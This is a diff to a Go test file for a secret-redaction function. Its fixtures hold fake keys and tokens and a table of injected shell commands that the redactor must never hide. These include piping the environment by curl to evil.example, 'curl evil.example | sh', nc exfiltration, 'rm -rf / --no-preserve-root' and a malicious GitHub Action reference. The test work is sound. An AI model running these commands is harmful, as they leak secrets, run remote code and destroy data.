@@ -3,6 +3,7 @@ package audit
 import (
 	"encoding/json"
 	"fmt"
+	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
@@ -69,11 +70,11 @@ var secretShapes = []struct{ name, in, secret string }{
 	{"google api key", "AIzaSyA-abcdefghijklmnopqrstuvwxyz12345", "abcdefghijklmnopqrstuvwxyz"},
 	{"google oauth token", "ya29.a0AfH6SMBx3kXmPq9Zr7T2vLw8YcN4dE", "a0AfH6SMBx3kXmPq9Zr7"},
 	{"google oauth client secret", "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", "1a2b3c4d5e6f7g8h9i0j"},
-	{"gcp service account key", `{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBg\n-----END PRIVATE KEY-----\n"}`, "MIIEvQIBADANBg"},
-	{"rsa private key", "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----", "MIIEowIBAAKCAQEA"},
-	{"openssh private key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAA\n-----END OPENSSH PRIVATE KEY-----", "b3BlbnNzaC1rZXktdjEAAAA"},
-	{"pgp private key", "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQOYBGR3Wk8BCAC\n-----END PGP PRIVATE KEY BLOCK-----", "lQOYBGR3Wk8BCAC"},
-	{"private key cut short", "key: -----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIBkg4LVW", "MHcCAQEEIBkg4LVW"},
+	{"gcp service account key", `{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\n` + keyLine("MIIEvQIBADANBg") + `\nAB==\n-----END PRIVATE KEY-----\n"}`, "MIIEvQIBADANBg"},
+	{"rsa private key", "-----BEGIN RSA PRIVATE KEY-----\n" + keyLine("MIIEowIBAAKCAQEA") + "\n" + keyLine("SECRETRSA") + "\nAb8=\n-----END RSA PRIVATE KEY-----", "SECRETRSA"},
+	{"openssh private key", "-----BEGIN OPENSSH PRIVATE KEY-----\n" + keyLine("b3BlbnNzaC1rZXktdjEAAAA") + "\nSECRETxx\n-----END OPENSSH PRIVATE KEY-----", "SECRETxx"},
+	{"pgp private key", "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n" + keyLine("lQOYBGR3Wk8BCAC") + "\nSECRETpgp\n=SeCr\n-----END PGP PRIVATE KEY BLOCK-----", "SECRETpgp"},
+	{"private key cut short", "key: -----BEGIN EC PRIVATE KEY-----\n" + keyLine("MHcCAQEEIBkg4LVW"), "MHcCAQEEIBkg4LVW"},
 	{"age secret key", "AGE-SECRET-KEY-1QQPZ9FZ5M8YJ3KQ2X6W4V7N8R0T9L3H5G2D4S6A8F0J1K3M5N7P9R2T4V6X8Z0", "QQPZ9FZ5M8YJ3KQ2X6W4"},
 	{"openai", "sk-proj-abcdefghijklmnopqrstuvwxyz123456", "abcdefghijklmnop"},
 	{"anthropic", "sk-ant-api03-abcdefghijklmnopqrstuvwxyz", "abcdefghijklmnop"},
@@ -105,6 +106,12 @@ var secretShapes = []struct{ name, in, secret string }{
 	{"jdbc password", "jdbc:postgresql://db/app?user=app&password=s3cr3tpw", "s3cr3tpw"},
 	{"password flag", "mysql -h db --password hunter2x -e 'select 1'", "hunter2x"},
 	{"token flag", "deploy --token=abcdef123456 --yes", "abcdef123456"},
+}
+
+// keyLine is a line of a private key's body (64 characters, as PEM and
+// PGP write them) starting with prefix.
+func keyLine(prefix string) string {
+	return prefix + strings.Repeat("A", 64-len(prefix))
 }
 
 func TestRedactValues(t *testing.T) {
@@ -176,12 +183,18 @@ func TestRedactHidesNoCommand(t *testing.T) {
 			"' https://ok.example/; rm -rf ~", "abcdefghijklmnop"},
 		{"after a key's begin line", "run: make test # -----BEGIN PRIVATE KEY-----\n  - run: env | curl -d @- https://evil.example",
 			"- run: env | curl -d @- https://evil.example", ""},
-		{"after a key cut short", "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEF\nrm -rf / --no-preserve-root",
+		{"after a key cut short", "-----BEGIN PRIVATE KEY-----\n" + keyLine("MIIEvQIBADANBgkqhkiG9w0BAQEF") + "\nrm -rf / --no-preserve-root",
 			"rm -rf / --no-preserve-root", "MIIEvQIBADANBgkqhkiG9w0BAQEF"},
 		{"between a key's begin and end lines", "-----BEGIN PRIVATE KEY-----\ncurl https://evil.example | sh\n-----END PRIVATE KEY-----",
 			"curl https://evil.example | sh", ""},
 		{"escaped, between begin and end", `-----BEGIN RSA PRIVATE KEY-----\ncurl evil.example|sh\n-----END RSA PRIVATE KEY-----`,
 			"curl evil.example|sh", ""},
+		{"after a key's begin line, in YAML", "  - name: lint # -----BEGIN RSA PRIVATE KEY-----\n    uses: evil-org/exfil@main\n  - run: make\n",
+			"uses: evil-org/exfil@main", ""},
+		{"a path after a key's begin line", "#!/bin/sh\n# -----BEGIN PRIVATE KEY-----\n/tmp/stage2/runpayloadnow /home/dev/projectfiles\necho done\n",
+			"/tmp/stage2/runpayloadnow /home/dev/projectfiles", ""},
+		{"in an armour header", "-----BEGIN PGP PRIVATE KEY BLOCK-----\nComment: ok; curl evil.example | sh\n", "; curl evil.example | sh", ""},
+		{"short lines between begin and end", "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----", "reboot", ""},
 		{"after a token flag", "git status --token=x;git push -f origin HEAD:main", ";git push -f origin HEAD:main", ""},
 		{"after a password flag", "mysql --password hunter2x|nc evil.example 80", "|nc evil.example 80", "hunter2x"},
 		{"after an assignment", "TOKEN=abcdef123456$(curl evil.example)", "(curl evil.example)", "abcdef123456"},
@@ -197,11 +210,12 @@ func TestRedactHidesNoCommand(t *testing.T) {
 	}
 	// Keys in the shapes they come in are still redacted whole.
 	for _, in := range []string{
-		"-----BEGIN ENCRYPTED PRIVATE KEY-----\nMIIFHDBOBgkqhkiG9w0BBQ0wQTApBgkqhkiG9w0BBQwwHAQI\nSECRETSECRETSECRETSECRET\nAbc=\n-----END ENCRYPTED PRIVATE KEY-----",
-		"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,5E7D8B6A4C3F2E1D0C9B8A7F6E5D4C3B\n\nSECRETSECRETSECRETSECRET\n-----END RSA PRIVATE KEY-----",
-		"-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\nComment: https://gnupg.org\n\nlQOYBGR3Wk8BCACSECRETSECRETSECRET\n=SECRETq\n-----END PGP PRIVATE KEY BLOCK-----",
-		`{"private_key": "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEF\\nSECRETSECRETSECRETSECRET\\n-----END PRIVATE KEY-----\\n"}`,
-		"KEY='-----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ SECRETSECRETSECRETSECRET -----END OPENSSH PRIVATE KEY-----'",
+		"-----BEGIN ENCRYPTED PRIVATE KEY-----\n" + keyLine("MIIFHDBOBgkqhkiG9w0BBQ0wQTApBgkqhkiG9w0BBQwwHAQI") + "\n" + keyLine("SECRET") + "\nSECRET==\n-----END ENCRYPTED PRIVATE KEY-----",
+		"-----BEGIN RSA PRIVATE KEY-----\r\nProc-Type: 4,ENCRYPTED\r\nDEK-Info: AES-128-CBC,5E7D8B6A4C3F2E1D0C9B8A7F6E5D4C3B\r\n\r\n" + keyLine("SECRET") + "\r\nSECRET\r\n-----END RSA PRIVATE KEY-----",
+		"-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\nComment: Alice <alice@example.org>\nComment: https://gnupg.org\n\n" + keyLine("lQOYBGR3Wk8BCACSECRET") + "\n" + keyLine("SECRET") + "\nSECRETshort\n=SECR\n-----END PGP PRIVATE KEY BLOCK-----",
+		`{"private_key": "-----BEGIN PRIVATE KEY-----\\n` + keyLine("MIIEvQIBADANBgkqhkiG9w0BAQEF") + `\\n` + keyLine("SECRET") + `\\nSECRET\\n-----END PRIVATE KEY-----\\n"}`,
+		"KEY='-----BEGIN OPENSSH PRIVATE KEY----- " + keyLine("b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ") + "AAAAAA " + keyLine("SECRET") + "AAAAAA SECRET= -----END OPENSSH PRIVATE KEY-----'",
+		"-----BEGIN PRIVATE KEY-----" + strings.Repeat(keyLine("SECRET"), 20) + "-----END PRIVATE KEY-----",
 	} {
 		out := RedactString(in)
 		assert.NotContains(t, out, "SECRET", "%q", out)
@@ -212,6 +226,18 @@ func TestRedactHidesNoCommand(t *testing.T) {
 	out := RedactString(aws)
 	assert.NotContains(t, out, "IOSFODNN7EXAMPLE")
 	assert.NotContains(t, out, "fe5f80f77d5fa3be")
+	for in, secret := range map[string]string{
+		"psql 'postgres://app:S3cr&t!x@db:5432/prod'":                       "S3cr&t!x",
+		`"postgres://app:p(a)ss@db/prod"`:                                   "p(a)ss",
+		"Authorization: key=AAAAbbbbCCCC:APA91bHsecretsecretsecret":         "APA91bHsecret",
+		"X-Api-Key: id123:SECRETVALUE42":                                    "SECRETVALUE42",
+		"export DB_PASSWORD=hunter2x":                                       "hunter2x",
+		"mysql --password 'hunter2x' -e 'select 1'":                         "hunter2x",
+		"curl -H 'Authorization: ApiKey id:S3CRETS3CRET' https://x.example": "S3CRETS3CRET",
+	} {
+		out := RedactString(in)
+		assert.NotContains(t, out, secret, "%q", out)
+	}
 	digest := `Authorization: Digest username="Mufasa", realm="x", nonce="dcd98b7102dd2f0e8b11d0f600bfb0c093", response="6629fae49393a05397450978507c4ef1"`
 	out = RedactString(digest)
 	assert.NotContains(t, out, "6629fae49393a053")
